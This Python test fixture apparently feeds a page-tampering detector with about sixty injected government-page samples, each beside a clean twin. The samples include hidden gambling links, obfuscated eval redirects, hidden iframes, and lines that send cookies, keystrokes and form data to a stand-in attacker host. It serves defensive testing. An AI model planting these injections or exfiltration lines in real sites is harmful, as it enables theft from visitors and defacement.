"""Sixty attacks more, after the judge was mended by the sixty before them; each with its clean twin."""

import base64
from collections.abc import Iterator

from tests.pages.imitations.attacks import BAD, GOOD, Attack, home

_HOST = BAD.removeprefix("http://")
_LINKS = f"<a href='{BAD}/p1'>定制门窗</a><a href='{BAD}/p2'>二手钢琴</a><a href='{BAD}/p3'>宠物寄养</a>"
_KEPT = "<a href='/zwdt/'>政务动态</a><a href='/msfw/'>民生服务</a><a href='/tzgg/'>通知公告</a>"
_LINKED = f"<a href='{GOOD}/'>云山旅游</a><a href='http://www.moj.gov.cn/'>司法部</a>"
_GO = base64.b64encode(f"top.location='{BAD}/g'".encode()).decode()


def _styled(name: str, style: str, twin: str) -> Attack:
    return Attack(name, home(f'<div style="{style}">{_LINKS}</div>'), home(f'<div style="{twin}">{_LINKED}</div>'))


def _sheeted(name: str, sheet: str, twin: str, box: str = "<div class='bx yy' id='bb'>{}</div>") -> Attack:
    return Attack(
        name,
        home(box.format(_LINKS), head=f"<style>{sheet}</style>"),
        home(box.format(_LINKED), head=f"<style>{twin}</style>"),
    )


def _run(name: str, script: str, twin: str, *, plain: bool = True) -> Attack:
    return Attack(name, home(f"<script>{script}</script>"), home(f"<script>{twin}</script>"), plain)


def _boxed(name: str, script: str, twin: str, box: str = "<div id='lk' class='lk'>{}</div>") -> Attack:
    return Attack(
        name,
        home(f"{box.format(_LINKS)}<script>{script}</script>"),
        home(f"{box.format(_LINKED)}<script>{twin}</script>"),
    )


def _put(name: str, page: str, twin: str, *, plain: bool = True) -> Attack:
    return Attack(name, home(page), home(twin), plain)


def _unseen() -> Iterator[Attack]:
    yield _styled(
        "a dot that scrolls", "width:1px;height:1px;overflow:scroll", "width:200px;height:90px;overflow:scroll"
    )
    yield _styled("below the screen", "position:fixed;bottom:-2000px", "position:fixed;bottom:20px")
    yield _styled("indented by ems", "text-indent:-100em;overflow:hidden", "text-indent:2em;overflow:hidden")
    yield _styled("font in short", "font:0/0 a", "font:14px/1.5 sans-serif")
    yield _styled("zoomed to nothing", "zoom:0.001", "zoom:1")
    yield _styled("nearly transparent", "opacity:.001;position:absolute", "opacity:.95;position:absolute")
    yield _styled("nearly the ground", "color:#fefefe;background:#ffffff", "color:#555555;background:#ffffff")
    yield _styled("moved up", "transform:translateY(-5000px)", "transform:translateY(5px)")
    yield _styled("turned on its edge", "transform:rotateX(90deg)", "transform:rotate(3deg)")
    yield _styled("filtered away", "filter:opacity(0)", "filter:opacity(1)")
    yield _styled("no height", "max-height:0px;overflow:hidden", "max-height:300px;overflow:hidden")
    yield _styled("polygon without area", "clip-path:polygon(0 0,0 0,0 0)", "clip-path:polygon(0 0,100% 0,100% 100%)")
    yield _styled("margins on two sides", "margin:-9999px 0 0 -9999px", "margin:-1px 0 0 -1px")
    yield _styled("grey on grey", "background:#eeeeee;color:#eee", "background:#eeeeee;color:#222")
    yield _styled(
        "narrow line", "display:inline-block;width:0;overflow:hidden", "display:inline-block;width:20em;overflow:hidden"
    )
    yield _put("for readers of screens", f"<div class='sr-only'>{_LINKS}</div><style>.sr-only{{position:absolute;widt"
                                         f"h:1px;height:1px;"
               f"overflow:hidden;clip:rect(0,0,0,0)}}</style>", "<div class='sr-only'>跳到主要内容</div><style>"
                                                                ".sr-only{position:"
               "absolute;width:1px;height:1px;overflow:hidden}</style>")  # fmt: skip
    yield _put("tiny letters each", "".join(f"<a style='font-size:1px' href='{BAD}/{n}'>货源{n}</a>" for n in range(5)),
               "".join(f"<a style='font-size:12px' href='/{n}'>专题{n}</a>" for n in range(5)))  # fmt: skip
    yield _sheeted("by their address", "a[href*='example.vip']{display:none}", "a[href*='gov.cn']{font-weight:bold}")
    yield _sheeted("two classes", ".bx.yy{position:absolute;left:-200em}", ".bx.yy{position:absolute;left:2em}")
    yield _sheeted("a sheet for all", "@media all{#bb{visibility:hidden}}", "@media print{#bb{visibility:hidden}}")
    yield _put(
        "heading in the dark",
        "<h1 style='display:none'>澳门赌场_百家乐_真人娱乐</h1>",
        "<h1 style='display:none'>云山县人民政府</h1>",
    )


def _hidden_later() -> Iterator[Attack]:
    yield _boxed("a sheet made by a script", "var s=document.createElement('style');s.innerHTML='.lk{display:none}';"
                                             "document.head."
                 "appendChild(s)", "var s=document.createElement('style');s.innerHTML='.lk{color:red}';"
                                   "document.head.appendChild(s)")  # fmt: skip
    yield _boxed("taken out", "document.getElementById('lk').remove()", "document.getElementById('lk').focus()")
    yield _boxed("taken out by the parent", "var e=document.getElementById('lk');e.parentNode.removeChild(e)",
                 "var e=document.getElementById('lk');e.parentNode.className='on'")  # fmt: skip
    yield _boxed("moved by text", "document.getElementById('lk').style.cssText='position:absolute;left:-9999px'",
                 "document.getElementById('lk').style.cssText='position:relative;left:1px'")  # fmt: skip
    yield _boxed("given a style", "document.getElementById('lk').setAttribute('style','display:none')",
                 "document.getElementById('lk').setAttribute('style','color:#333')")  # fmt: skip
    yield _boxed("all of a class", "document.querySelectorAll('.lk').forEach(e=>e.style.display='none')",
                 "document.querySelectorAll('.lk').forEach(e=>e.style.color='#333')")  # fmt: skip
    yield _boxed("removed by the library", "$('.lk').remove()", "$('.lk').show()")
    yield _boxed(
        "flattened by the library",
        "$('#lk').css({height:0,overflow:'hidden'})",
        "$('#lk').css({height:90,overflow:'auto'})",
    )
    yield _run("a box of the library", f"$('<div style=\"display:none\"><a href=\"{BAD}/k\">甲</a></div>"
                                       f"').appendTo('body')",
               "$('<div class=\"tip\">正在加载</div>').appendTo('body')")  # fmt: skip


def _leading() -> Iterator[Attack]:
    yield _run("telephones in small letters", f"var ua=navigator.userAgent.toLowerCase();if(ua.indexOf('mobile')>"
                                              f"0)location.replace('{BAD}/w')",




                "var ua=navigator.userAgent.toLowerCase()"
                ";if(ua.indexOf('mobile')>0)location.replace('/wap/')")  # fmt: skip
    yield _run("names in brackets", f"window['eval'](window['atob']('{_GO}'))", "window['scrollTo'](0,0)")
    yield _run("timer of code", f"setTimeout(atob('{_GO}'),0)", "setTimeout(showBanner,0)")
    yield _run(
        "function of a text", f"new Function(\"location.href='{BAD}/f'\")()", "var f=function(){location.hash='f'};f()"
    )
    yield _run("this of a function", f"Function('return this')().location='{BAD}'", "var w=this;w.name='home'")
    yield _run(
        "escapes that are run",
        "eval('" + "".join(f"\\x{ord(c):02x}" for c in f"location='{BAD}'") + "')",
        "var t='\\x41\\x42'",
    )
    yield _run(
        "body waits for a click",
        f"document.body.onclick=function(){{location='{BAD}/b'}}",
        "document.body.onclick=function(){hideMenu()}",
    )
    yield _run("when it is seen again", f"document.addEventListener('visibilitychange',function(){{location='{BAD}/v'"
                                        f"}})",
               "document.addEventListener('visibilitychange',function(){player.pause()})")  # fmt: skip
    yield _run(
        "when it is scrolled",
        f"window.addEventListener('scroll',()=>{{location.href='{BAD}/s'}})",
        "window.addEventListener('scroll',()=>{toTop()})",
    )
    yield _run(
        "when it is ready",
        f"$(document).ready(function(){{window.location='{BAD}/r'}})",
        "$(document).ready(function(){$('.tab').tabs()})",
    )
    yield _run("body of the library", f"$('body').html('<iframe src=\"{BAD}/\" style=\"position:fixed;width:100%;"
                                      f"height:100%\"></iframe>')",
               "$('#nr').html('<p>暂无内容</p>')")  # fmt: skip
    yield _run(
        "put together from a list",
        f"location.href=['http:','','{_HOST}','x'].join('/')",
        "var path=['a','b'].join('/')",
    )
    yield _run(
        "put together by leaving out",
        f"location.href='{'-'.join(BAD)}'.replace(/-/g,'')",
        "var d='2026-11-23'.replace(/-/g,'/')",
    )
    yield _run("figures applied", f"location.href=String.fromCharCode.apply(null,["
                                  f"{','.join(str(ord(c)) for c in BAD)}])",
               "var a=Math.max.apply(null,[1,2,3])")  # fmt: skip
    yield _run("figures in a loop", f"var d=[{','.join(str(ord(c) ^ 7) for c in f'location={BAD}')}],s='';for(var i "
                                    f"in d)s+=String.fromCharCode(d[i]^7);eval(s)",
               "var d=[3,1,2],s=0;for(var i in d)s+=d[i];show(s)", plain=False)  # fmt: skip
    yield _run(
        "unless it is framed",
        f"if(top.location.hostname!='x'){{top.location='{BAD}/h'}}",
        "if(top!=self){top.location=self.location}",
    )


def _taking() -> Iterator[Attack]:
    yield _run("beacon", f"navigator.sendBeacon('{BAD}/b',document.cookie)", "navigator.sendBeacon('/log','pv')")
    yield _run(
        "keys",
        f"document.onkeypress=function(e){{new Image().src='{BAD}/k?'+e.key}}",
        "document.onkeypress=function(e){if(e.key=='Enter')search()}",
    )
    yield _run("the form's way", f"document.forms[0].action='{BAD}/p'", "document.forms[0].action='/search'")
    yield _run("pushed", f"(function(){{var b=document.createElement('script');b.src='{BAD}/push.js';var s=document.g"
                         f"etElementsByTagName('script')"
               "[0];s.parentNode.insertBefore(b,s)})()", "(function(){var b=document.createElement('script');b.src='h"
                                                         "ttps://zz.bdstatic.com/"
               "linksubmit/push.js';var s=document.getElementsByTagName('script')[0];"
               "s.parentNode.insertBefore(b,s)})()", plain=False)  # fmt: skip
    yield _put("form for codes", f"<form action='{BAD}/v'>手机号<input name=sj>验证码<input name=yzm><button>"
                                 f"领取</button></form>",




                "<form action='/cx'>手机号<input name=sj>验证码<input"
                " name=yzm><button>查询</button></form>")  # fmt: skip


def _named() -> Iterator[Attack]:
    yield Attack("brand in brackets", home(title="AG真人(中国)官方网站"), home(title="中国(云山)国际茶叶节官方网站"))
    yield Attack(
        "keywords of balls",
        home(head="<meta name='keywords' content='世界杯买球,买球app官方下载,米兰体育'>"),
        home(head="<meta name='keywords' content='世界杯观赛,足球进校园'>"),
    )
    yield Attack(
        "alternative texts",
        home("<img src='/a.jpg' alt='百家乐在线投注_真人娱乐平台'>"),
        home("<img src='/a.jpg' alt='百家宴_真人图书馆活动'>"),
    )
    yield Attack("telephones by a tag", home(head=f"<meta name='mobile-agent' content='format=html5;url={BAD}/m/'>"),




                home(head="<meta name='mobile-agent' content='forma"
                "t=html5;url=http://m.yunshan.example/'>"))  # fmt: skip
    yield Attack(
        "ours in another zone",
        home(f"<a href='http://www.yunshan.gov.cn.{_HOST}/'>办事服务</a>"),
        home("<a href='http://www.yunshan.gov.cn/'>办事服务</a>"),
    )
    yield Attack(
        "you have been hacked",
        home("<h2>You have been hacked!</h2><p>Pwned by TeamX</p>"),
        home("<h2>网络安全应急演练举行</h2><p>提升防护能力</p>"),
    )
    yield _put(
        "frame at the edge",
        f"<iframe src='{BAD}/' style='position:absolute;left:-2000px'></iframe>",
        "<iframe src='/tq.html' style='position:absolute;left:20px'></iframe>",
    )
    yield _put(
        "frame of a pixel",
        f"<iframe src='{BAD}/' style='width:1px;height:1px;opacity:0'></iframe>",
        "<iframe src='/tq.html' style='width:200px;height:60px'></iframe>",
    )
    yield Attack("frame by a class", home(f"<iframe class='ov' src='{BAD}/'></iframe>", head="<style>.ov"
        "{position:fixed;top:0;left:0;width:100vw;height:100vh}</style>"),
                 home("<iframe class='ov' src='/map.html'></iframe>", head="<style>.ov{width:100%;height:400px}</styl"
                     "e>"))  # fmt: skip


NEWER_ATTACKS = (*_unseen(), *_hidden_later(), *_leading(), *_taking(), *_named())
